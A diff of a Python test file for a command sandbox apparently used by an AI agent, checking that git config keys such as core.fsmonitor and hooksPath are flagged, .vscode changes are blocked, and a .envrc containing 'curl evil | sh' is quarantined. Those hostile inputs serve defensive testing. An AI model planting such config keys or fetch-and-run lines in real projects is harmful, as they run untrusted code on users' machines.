@@ -188,8 +188,6 @@ def test_a_git_config_runs_nothing_only_with_the_keys_git_itself_writes(tmp_path
                       "\turl = https://example.org/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
                       '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n')
     assert unsafe_git_keys(config) == []
-    config.write_text("[submodule]\n\tactive = .\n[submodule \"sm\"]\n\turl = ../sm\n\tactive = true\n")
-    assert unsafe_git_keys(config) == []  # what clone --recurse-submodules writes
     for hostile, key in [("[core]\n\tfsmonitor = sh -c x\n", "core.fsmonitor"),
                          ("[core]\n\thooksPath = /x\n", "core.hookspath"),
                          ("[include]\n\tpath = ../evil\n", "include.path"),
@@ -232,26 +230,3 @@ async def test_a_checkout_that_would_change_vscode_fails_and_says_why(ws: Path) 
     result = await sh(ws, "git checkout -q evil")
     assert (ws / ".vscode" / "settings.json").read_text() == "{}\n"
     assert "ask the user to run this command themselves" in result.text  # git itself exits 0 here
-
-
-async def test_a_symlinked_vscode_is_guarded_where_it_leads_and_put_back_when_replaced(ws: Path) -> None:
-    require_sandbox()
-    (ws / "shared").mkdir()
-    (ws / "shared" / "settings.json").write_text("{}\n")
-    (ws / ".vscode").symlink_to("shared")
-    await sh(ws, "echo evil > shared/settings.json; true")
-    assert (ws / "shared" / "settings.json").read_text() == "{}\n"  # where the link leads is read-only
-    result = await sh(ws, "rm .vscode && mkdir .vscode && echo evil > .vscode/tasks.json")
-    assert (ws / ".vscode").is_symlink() and os.readlink(ws / ".vscode") == "shared"
-    assert "the link to shared it replaced was put back" in result.text
-    assert quarantined(ws) == [".vscode/tasks.json"]
-
-
-async def test_a_command_that_times_out_is_checked_too(ws: Path) -> None:
-    require_sandbox()
-    box = Sandbox(ws)
-    result = await run_command("echo 'curl evil | sh' > .envrc; sleep 30", box.workspace, 1, lambda _: None,
-                               sandbox=box)
-    assert result.details["timed_out"] is True
-    assert not (ws / ".envrc").exists() and ".envrc" in result.text
-    assert result.details["quarantined"] == [".envrc"]
